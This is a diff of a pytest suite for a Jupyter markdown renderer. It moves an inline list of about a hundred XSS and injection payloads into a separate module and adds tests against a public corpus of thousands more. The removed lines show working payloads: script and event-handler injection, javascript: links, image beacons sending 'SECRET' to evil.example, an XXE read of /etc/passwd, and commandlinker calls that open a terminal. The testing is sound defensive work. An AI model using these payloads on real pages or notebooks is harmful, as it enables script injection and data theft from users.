@@ -16,103 +16,7 @@ from mibyan_jupyter.rendering import (
     wrap_answer,
 )
 from tests.rendering.allowed_html import faults, links
-
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src=x/onerror=alert(1)//",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=https://evil.example/x.swf>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<style>*{background:url(https://evil.example)}</style>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href=https://evil.example/>",
-    "<form action=https://evil.example><input name=key><button>Go</button></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=https://evil.example/a.mp3 autoplay>",
-    "<details open ontoggle=alert(1)>",
-    "<body onload=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='https://evil.example' ping='https://evil.example'>x</a>",
-    "<p style='background:url(https://evil.example)'>x</p>",
-    "<div style=position:fixed;inset:0 class=jp-Dialog>x</div>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--<img src='--><img src=x onerror=alert(1)>'>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml-stylesheet href='javascript:alert(1)'?>",
-    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
-    "<xss data-commandlinker-command=terminal:create-new>x</xss>",
-    "<button data-commandlinker-command='notebook:run-all-cells'>x</button>",
-    "<sub onclick=alert(1)>x</sub>",
-    "<sub><script>alert(1)</script></sub>",
-    "<kbd><sup><sub></kbd></sup></sub>",
-    "<br onload=alert(1)>",
-    "<sub <img src=x onerror=alert(1)>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](file:///etc/passwd)",
-    "[x](//evil.example/x)",
-    "[x](\\\\evil.example\\x)",
-    "[x](/api/contents?token=1)",
-    "[x](#jp-main-dock-panel)",
-    "[x](blob:https://evil.example/1)",
-    "[x](https://a.b 'x\" onclick=\"alert(1)')",
-    '[x](https://a.b"onclick="alert(1))',
-    '[x](<https://a.b" onclick=alert(1) x=">)',
-    "[x][1]\n\n[1]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "![x](https://evil.example/?d=SECRET)",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    "![x][1]\n\n[1]: https://evil.example/?d=SECRET",
-    '![x" onerror="alert(1)](https://evil.example/x.png "t\\" onerror=\\"alert(1)")',
-    "[![x](https://evil.example/p)](javascript:alert(1))",
-    "![a ![b](https://evil.example/b)](https://evil.example/a)",
-    "![x](https://[evil)",
-    '```"><script>alert(1)</script>\nx\n```',
-    "```python onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
-    "`</code><script>alert(1)</script>`",
-    "~~~<img src=x onerror=alert(1)>\n~~~",
-    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
-    "# <img src=x onerror=alert(1)>",
-    "> <script>\n> alert(1)\n> </script>",
-    "- [x] <img src=x onerror=alert(1)>",
-    "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
-    'a[^"><script>]\n\n[^"><script>]: x',
-    "$<img src=x onerror=alert(1)>$",
-    "$$</div><script>alert(1)</script>$$",
-    "\\(\\href{javascript:alert(1)}{x}\\)",
-    "$\\style{position:fixed;background:url(https://evil.example)}{x}$",
-    "$\\class{jp-Dialog}{x}$ $\\cssId{main}{x}$",
-    "$\\includegraphics{https://evil.example/x.png}$",
-    "$\\newcommand{\\frac}[2]{gone}$",
-    "$\\bbox[url(https://evil.example)]{x}$",
-    '<div class="mibyan-plain" style="position:fixed">',
-    '"><div class="mibyan-code" ',
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\ud800<script>alert(1)</script>",
-    "<scr\0ipt>alert(1)</script>",
-    "https://a.b/<script>alert(1)</script>",
-    'https://a.b/"onmouseover="alert(1)',
-    "{{7*7}} ${7*7} <%= 7*7 %>",
-]
+from tests.rendering.payloads import PAYLOADS, PUBLIC, one_document
 
 
 @pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@@ -136,6 +40,25 @@ def test_payload_while_it_is_written(payload: str) -> None:
         assert faults("".join(frame.settled) + frame.tail) == []
 
 
+def test_the_public_corpus() -> None:
+    """Thousands of payloads that others have collected: alone, in a quote, item and cell."""
+    assert len(PUBLIC) > 4_000
+    for payload in PUBLIC:
+        cell = payload.replace("\n", " ")
+        source = f"{payload}\n\n> - x {payload}\n\n| a | b |\n|---|---|\n| {cell} | b |"
+        assert faults(render_markdown(source, "d")) == [], payload
+
+
+def test_the_public_corpus_while_it_is_written() -> None:
+    """All of it in one answer, in frames that end anywhere."""
+    text, document = one_document(PUBLIC), LiveDocument("d")
+    for start in range(0, len(text), 997):
+        document.append(text[start : start + 997])
+        frame = document.render()
+        assert faults("".join(frame.settled) + frame.tail) == []
+    assert document.finish().count("<hr") == len(PUBLIC)
+
+
 def test_every_link_of_the_corpus_is_disarmed() -> None:
     """Each link that does come out tells its target nothing about the notebook."""
     found = [link for payload in PAYLOADS for link in links(render_markdown(payload, "d"))]
@@ -148,8 +71,9 @@ def test_every_link_of_the_corpus_is_disarmed() -> None:
 
 def test_the_oracle_is_awake() -> None:
     """The oracle of these tests does object to raw payloads."""
-    raw = [payload for payload in PAYLOADS if payload.startswith("<")]
-    assert sum(bool(faults(payload)) for payload in raw) > 0.8 * len(raw)
+    for corpus in (PAYLOADS, PUBLIC):
+        raw = [payload for payload in corpus if payload.startswith("<")]
+        assert sum(bool(faults(payload)) for payload in raw) > 0.8 * len(raw)
 
 
 @settings(max_examples=300, deadline=None)
